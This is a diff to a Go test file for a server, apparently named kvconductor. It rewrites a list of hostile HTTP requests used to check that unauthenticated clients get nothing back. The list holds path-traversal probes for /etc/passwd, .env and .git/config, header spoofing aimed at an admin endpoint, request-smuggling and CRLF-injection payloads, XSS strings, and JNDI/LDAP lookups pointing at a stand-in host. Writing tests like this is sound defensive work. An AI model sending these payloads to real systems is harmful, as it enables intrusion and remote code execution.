@@ -12,7 +12,7 @@ import (
 	"kvconductor/internal/must"
 )
 
-// hostileRequests are requests as scanners of web servers send them. N stands for a line end.
+// hostileRequests are requests as scanners of web servers send them. A newline stands for the end of a line.
 var hostileRequests = []string{
 	// paths that mean another file, another route or another server
 	"GET /../../../../etc/passwd HTTP/1.1", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "GET /..%2f..%2fetc%2fpasswd HTTP/1.1", "GET /..%c0%af..%c0%afetc/passwd HTTP/1.1",
@@ -25,25 +25,25 @@ var hostileRequests = []string{
 	"GET /.git/config HTTP/1.1", "GET /.env HTTP/1.1", "GET /debug/pprof/heap HTTP/1.1", "GET /debug/vars HTTP/1.1", "GET /actuator/env HTTP/1.1", "GET /server-status HTTP/1.1", "GET /swagger.json HTTP/1.1",
 	"GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1", "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1", "GET /solr/admin/cores HTTP/1.1", "POST /xmlrpc.php HTTP/1.1", "GET /console HTTP/1.1",
 	// who asks, as headers claim it
-	"GET /admin/snapshot HTTP/1.1NX-Forwarded-For: 127.0.0.1", "GET /admin/snapshot HTTP/1.1NX-Real-IP: 127.0.0.1", "GET /admin/snapshot HTTP/1.1NForwarded: for=127.0.0.1", "GET /admin/snapshot HTTP/1.1NTrue-Client-IP: ::1",
-	"GET /health HTTP/1.1NX-Original-URL: /admin/snapshotNX-Rewrite-URL: /admin/snapshot", "GET /health HTTP/1.1NX-HTTP-Method-Override: DELETE", "GET /admin/snapshot HTTP/1.1NHost: localhost",
-	"GET /admin/snapshot HTTP/1.1NAuthorization: Bearer ", "GET /admin/snapshot HTTP/1.1NAuthorization: Bearer null", "GET /admin/snapshot HTTP/1.1NAuthorization: Basic YWRtaW46YWRtaW4=",
-	"GET /admin/snapshot HTTP/1.1NAuthorization: Bearer wrongNAuthorization: Bearer operator-token-x", "GET /admin/snapshot HTTP/1.1NAuthorization: bearer\toperator", "GET /admin/snapshot?access_token=operator-token HTTP/1.1",
-	"GET /admin/snapshot HTTP/1.1NCookie: token=operator-token",
+	"GET /admin/snapshot HTTP/1.1\nX-Forwarded-For: 127.0.0.1", "GET /admin/snapshot HTTP/1.1\nX-Real-IP: 127.0.0.1", "GET /admin/snapshot HTTP/1.1\nForwarded: for=127.0.0.1", "GET /admin/snapshot HTTP/1.1\nTrue-Client-IP: ::1",
+	"GET /health HTTP/1.1\nX-Original-URL: /admin/snapshot\nX-Rewrite-URL: /admin/snapshot", "GET /health HTTP/1.1\nX-HTTP-Method-Override: DELETE", "GET /admin/snapshot HTTP/1.1\nHost: localhost",
+	"GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer ", "GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer null", "GET /admin/snapshot HTTP/1.1\nAuthorization: Basic YWRtaW46YWRtaW4=",
+	"GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer wrong\nAuthorization: Bearer operator-token-x", "GET /admin/snapshot HTTP/1.1\nAuthorization: bearer\toperator", "GET /admin/snapshot?access_token=operator-token HTTP/1.1",
+	"GET /admin/snapshot HTTP/1.1\nCookie: token=operator-token",
 	// methods
 	"TRACE /health HTTP/1.1", "CONNECT 127.0.0.1:22 HTTP/1.1", "OPTIONS * HTTP/1.1", "PROPFIND / HTTP/1.1", "DELETE /register HTTP/1.1", "PUT /admin/reload HTTP/1.1", "PATCH /query HTTP/1.1", "HEAD /admin/snapshot HTTP/1.1", "get /admin/snapshot HTTP/1.1",
 	// requests that two servers read differently
-	"POST /query HTTP/1.1NContent-Length: 4NTransfer-Encoding: chunkedNN0NNGET /admin/snapshot HTTP/1.1", "POST /query HTTP/1.1NContent-Length: 4NContent-Length: 40NN{}{}", "POST /query HTTP/1.1NTransfer-Encoding: chunkedNTransfer-Encoding: identityNN0",
-	"POST /query HTTP/1.1NTransfer-Encoding: xchunkedNN0", "POST /query HTTP/1.1NTransfer-Encoding : chunkedNN0", "GET /health HTTP/1.1N Folded: x", "GET /health HTTP/1.1NA\x00B: x", "GET /health HTTP/1.1NNo colon", "GET /health HTTP/1.1NHost: aNHost: b",
-	"GET /health HTTP/9.9", "GET /health", "GET  /health  HTTP/1.1", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "PRI * HTTP/2.0NNSMNN\xff\xff\xff\xff\xff\xff\xff\xff\xff", "\x00\x00\x00\x00", "GET /health HTTP/1.1NUpgrade: websocketNConnection: UpgradeNSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
-	"GET /admin/snapshot HTTP/1.1NUpgrade: h2cNConnection: Upgrade, HTTP2-SettingsNHTTP2-Settings: AAMAAABkAAQAAP__",
+	"POST /query HTTP/1.1\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\nGET /admin/snapshot HTTP/1.1", "POST /query HTTP/1.1\nContent-Length: 4\nContent-Length: 40\n\n{}{}", "POST /query HTTP/1.1\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\n\n0",
+	"POST /query HTTP/1.1\nTransfer-Encoding: xchunked\n\n0", "POST /query HTTP/1.1\nTransfer-Encoding : chunked\n\n0", "GET /health HTTP/1.1\n Folded: x", "GET /health HTTP/1.1\nA\x00B: x", "GET /health HTTP/1.1\nNo colon", "GET /health HTTP/1.1\nHost: a\nHost: b",
+	"GET /health HTTP/9.9", "GET /health", "GET  /health  HTTP/1.1", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "PRI * HTTP/2.0\n\nSM\n\n\xff\xff\xff\xff\xff\xff\xff\xff\xff", "\x00\x00\x00\x00", "GET /health HTTP/1.1\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
+	"GET /admin/snapshot HTTP/1.1\nUpgrade: h2c\nConnection: Upgrade, HTTP2-Settings\nHTTP2-Settings: AAMAAABkAAQAAP__",
 	// sizes
-	"GET /" + strings.Repeat("a", 1<<20) + " HTTP/1.1", "GET /health HTTP/1.1NX: " + strings.Repeat("a", 2<<20), "GET /health HTTP/1.1" + strings.Repeat("NX: y", 1<<18), "GET /services?" + strings.Repeat("a=b&", 1<<16) + " HTTP/1.1",
-	"POST /query HTTP/1.1NContent-Encoding: gzip, gzip, gzip, gzipNContent-Length: 2NN{}", "POST /query HTTP/1.1NAccept-Encoding: " + strings.Repeat("gzip,", 10_000) + "NContent-Length: 2NN{}", "POST /query HTTP/1.1NAccept: " + strings.Repeat("a/b;q=0.1,", 10_000) + "NContent-Length: 2NN{}",
-	"GET /dump HTTP/1.1NRange: bytes=" + strings.Repeat("0-1,", 10_000) + "0-1", "POST /query HTTP/1.1NContent-Type: application/json;" + strings.Repeat("a=b;", 10_000) + "NContent-Length: 2NN{}",
+	"GET /" + strings.Repeat("a", 1<<20) + " HTTP/1.1", "GET /health HTTP/1.1\nX: " + strings.Repeat("a", 2<<20), "GET /health HTTP/1.1" + strings.Repeat("\nX: y", 1<<18), "GET /services?" + strings.Repeat("a=b&", 1<<16) + " HTTP/1.1",
+	"POST /query HTTP/1.1\nContent-Encoding: gzip, gzip, gzip, gzip\nContent-Length: 2\n\n{}", "POST /query HTTP/1.1\nAccept-Encoding: " + strings.Repeat("gzip,", 10_000) + "\nContent-Length: 2\n\n{}", "POST /query HTTP/1.1\nAccept: " + strings.Repeat("a/b;q=0.1,", 10_000) + "\nContent-Length: 2\n\n{}",
+	"GET /dump HTTP/1.1\nRange: bytes=" + strings.Repeat("0-1,", 10_000) + "0-1", "POST /query HTTP/1.1\nContent-Type: application/json;" + strings.Repeat("a=b;", 10_000) + "\nContent-Length: 2\n\n{}",
 	// text that a log or an answer may carry on
-	"GET /health HTTP/1.1NUser-Agent: ${jndi:ldap://192.0.2.1/a}", "GET /health HTTP/1.1NX-Trace-Id: <script>alert(1)</script>", "GET /<script>alert(1)</script> HTTP/1.1", "GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1", "GET /services?a=%0d%0aX-Injected:%201 HTTP/1.1",
-	"GET /health HTTP/1.1Ntraceparent: 00-" + strings.Repeat("f", 5000),
+	"GET /health HTTP/1.1\nUser-Agent: ${jndi:ldap://192.0.2.1/a}", "GET /health HTTP/1.1\nX-Trace-Id: <script>alert(1)</script>", "GET /<script>alert(1)</script> HTTP/1.1", "GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1", "GET /services?a=%0d%0aX-Injected:%201 HTTP/1.1",
+	"GET /health HTTP/1.1\ntraceparent: 00-" + strings.Repeat("f", 5000),
 }
 
 // TestHostileRequests holds that no such request of a client without credentials gets anything
@@ -54,7 +54,7 @@ func TestHostileRequests(t *testing.T) {
 	p := serveProcess(t, "auth: {file: "+credentialsFile(t, "operator-token admin '*'")+"}\nsources: [{endpoint: 'tcp://192.0.2.7:5557', type: vLLM, modelname: secret-model, instance_id: secret-instance, block_size: 16}]\n")
 	address := strings.TrimPrefix(p.url, "http://")
 	for _, text := range hostileRequests {
-		lines := strings.Split(strings.ReplaceAll(text, "NN", "N\r\n"), "N")
+		lines := strings.Split(text, "\n")
 		if strings.Contains(text, "HTTP/1.1") && !strings.Contains(text, "Host:") {
 			lines[0] += "\r\nHost: conductor"
 		}
